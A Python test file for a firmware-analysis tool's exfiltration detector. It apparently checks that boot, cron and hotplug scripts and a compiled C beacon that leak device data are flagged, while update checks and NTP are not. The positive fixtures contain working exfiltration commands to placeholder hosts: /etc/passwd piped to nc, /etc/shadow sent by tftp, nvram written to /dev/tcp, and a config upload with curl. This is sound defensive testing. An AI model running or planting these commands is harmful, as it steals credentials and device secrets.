"""FP-EXFIL: boot, cron and hotplug jobs and programs sending device data out; downloads,
update checks and NTP are decoys."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from firmproof.analyzers.exfil import Exfiltration
from firmproof.model import Finding, Severity
from firmproof.rootfs import RootFS
from tests.conftest import tool

from .conftest import evidence_bytes

INITTAB = "::sysinit:/etc/init.d/rcS\n"


def _run(files: dict[str, str | bytes]) -> list[Finding]:
    fs = RootFS.from_files(files, modes={p: 0o755 for p in files})
    return list(Exfiltration().run(fs))


# name -> (files, path of the evidence, evidence bytes, host)
POSITIVES: dict[str, tuple[dict[str, str | bytes], str, bytes, str]] = {
    "wget-mac-at-boot": (
        {"/etc/inittab": INITTAB,
         "/etc/init.d/rcS": "#!/bin/sh\nMAC=$(cat /sys/class/net/eth0/address)\n"
                            "wget -q \"http://203.0.113.9/r.php?mac=$MAC\" -O /dev/null &\n"},
        "/etc/init.d/rcS", b'wget -q "http://203.0.113.9/r.php?mac=$MAC" -O /dev/null &', "203.0.113.9"),
    "passwd-to-nc-from-cron": (
        {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\ncrond\n",
         "/etc/crontabs/root": "*/30 * * * * cat /etc/passwd | nc collect.bad-cloud.cn 9999\n"},
        "/etc/crontabs/root", b"*/30 * * * * cat /etc/passwd | nc collect.bad-cloud.cn 9999",
        "collect.bad-cloud.cn"),
    "curl-config-from-hotplug": (
        {"/etc/hotplug.d/iface/99-report":
         "#!/bin/sh\n[ \"$ACTION\" = ifup ] || exit 0\n"
         "curl -s -F cfg=@/etc/config/network https://198.51.100.20/upload\n"},
        "/etc/hotplug.d/iface/99-report",
        b"curl -s -F cfg=@/etc/config/network https://198.51.100.20/upload", "198.51.100.20"),
    "tftp-shadow": (
        {"/etc/inittab": INITTAB,
         "/etc/init.d/rcS": "#!/bin/sh\ntftp -p -l /etc/shadow -r s.txt 198.51.100.7\n"},
        "/etc/init.d/rcS", b"tftp -p -l /etc/shadow -r s.txt 198.51.100.7", "198.51.100.7"),
    "nvram-to-dev-tcp": (
        {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nnvram show > /dev/tcp/203.0.113.50/80\n"},
        "/etc/init.d/rcS", b"nvram show > /dev/tcp/203.0.113.50/80", "203.0.113.50"),
}

DECOYS: dict[str, dict[str, str | bytes]] = {
    "firmware-download": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
                          "#!/bin/sh\nwget http://update.vendor-cloud.com/fw/latest.bin -O /tmp/fw.bin\n"},
    "update-check": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
                     "#!/bin/sh\nMODEL=RT-N12\ncurl -s \"https://update.vendor-cloud.com/check?model=$MODEL&ver=1.0\"\n"},
    "ntp": {"/etc/inittab": INITTAB,
            "/etc/init.d/rcS": "#!/bin/sh\nntpclient -s -h pool.ntp.org\nntpd -p 0.pool.ntp.org\n"},
    "nc-listener": {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nnc -l -p 9000 > /tmp/upload\n"},
    "config-to-variable-host": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
                                "#!/bin/sh\nSERVER=$(nvram get backup_server)\n"
                                "tftp -p -l /etc/config/network $SERVER\n"},
    "not-run-at-boot": {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nmount -a\n",
                        "/usr/share/doc/example.sh": "cat /etc/passwd | nc 203.0.113.9 80\n"},
}


@pytest.mark.parametrize("case", sorted(POSITIVES))
def test_job_sending_device_data_is_found(case: str) -> None:
    files, path, literal, host = POSITIVES[case]
    found = [f for f in _run(files) if f.rule.id == "FP-EXFIL-001"]
    assert len(found) == 1, [(f.rule.id, f.evidence.excerpt) for f in _run(files)]
    assert found[0].path == path
    assert evidence_bytes(files, found[0]) == literal
    assert found[0].details["host"] == host
    assert found[0].severity == Severity.CRITICAL


def test_lan_destination_is_low_severity() -> None:
    files: dict[str, str | bytes] = {
        "/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\ncat /etc/passwd | nc 192.168.1.10 9000\n"}
    (found,) = _run(files)
    assert found.severity == Severity.LOW and found.details["private"] is True


@pytest.mark.parametrize("case", sorted(DECOYS))
def test_job_sending_nothing_of_the_device_is_not_reported(case: str) -> None:
    assert _run(DECOYS[case]) == []


PROGRAMS = {
    "beacon": (r"""
#include <stdio.h>
#include <stdlib.h>
int main(void) {
    char mac[32] = "", cmd[256];
    FILE *f = fopen("/sys/class/net/eth0/address", "r");
    if (f) { fgets(mac, sizeof mac, f); fclose(f); }
    snprintf(cmd, sizeof cmd, "wget -q -O /dev/null 'http://collect.bad-cloud.cn/r.php?mac=%s'", mac);
    return system(cmd);
}""", b"http://collect.bad-cloud.cn/r.php?mac=%s"),
}

DECOY_PROGRAMS = {
    "ntp-client": r"""
#include <netdb.h>
#include <string.h>
#include <sys/socket.h>
int main(void) {
    unsigned char pkt[48] = {0x1b};
    struct addrinfo *ai;
    if (getaddrinfo("pool.ntp.org", "123", 0, &ai) != 0) return 1;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    sendto(s, pkt, sizeof pkt, 0, ai->ai_addr, ai->ai_addrlen);
    return recv(s, pkt, sizeof pkt, 0) < 0;
}""",
    "update-check": r"""
#include <stdio.h>
#include <stdlib.h>
int main(int argc, char **argv) {
    char cmd[256];
    snprintf(cmd, sizeof cmd, "wget -q -O /tmp/fw.bin 'http://update.vendor-cloud.com/check?model=%s&ver=%s'",
             argc > 1 ? argv[1] : "RT-N12", "1.0");
    return system(cmd);
}""",
}


@pytest.fixture(scope="module")
def build(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    gcc = tool("gcc")
    tmp: Path = tmp_path_factory.mktemp("exfil")

    def _build(name: str, source: str, compiler: str = gcc) -> bytes:
        tool(compiler)
        (tmp / f"{name}.c").write_text(source)
        proc = subprocess.run([compiler, "-O2", "-s", "-w", "-o", str(tmp / name), str(tmp / f"{name}.c")],
                              capture_output=True, text=True)
        assert proc.returncode == 0, proc.stderr
        return (tmp / name).read_bytes()
    return _build


@pytest.mark.parametrize("compiler", ["gcc", "mipsel-linux-gnu-gcc", "mips-linux-gnu-gcc",
                                      "arm-linux-gnueabi-gcc", "aarch64-linux-gnu-gcc"])
def test_program_beaconing_the_mac_is_found(compiler: str, build) -> None:  # type: ignore[no-untyped-def]
    source, literal = PROGRAMS["beacon"]
    files: dict[str, str | bytes] = {"/usr/bin/cloudd": build(f"beacon-{compiler}", source, compiler)}
    (found,) = _run(files)
    assert found.rule.id == "FP-EXFIL-002"
    assert literal in evidence_bytes(files, found)
    assert found.details["host"] == "collect.bad-cloud.cn"


@pytest.mark.parametrize("name", sorted(DECOY_PROGRAMS))
def test_program_sending_nothing_of_the_device_is_not_reported(name: str, build) -> None:  # type: ignore[no-untyped-def]
    assert _run({"/usr/bin/tool": build(name, DECOY_PROGRAMS[name])}) == []
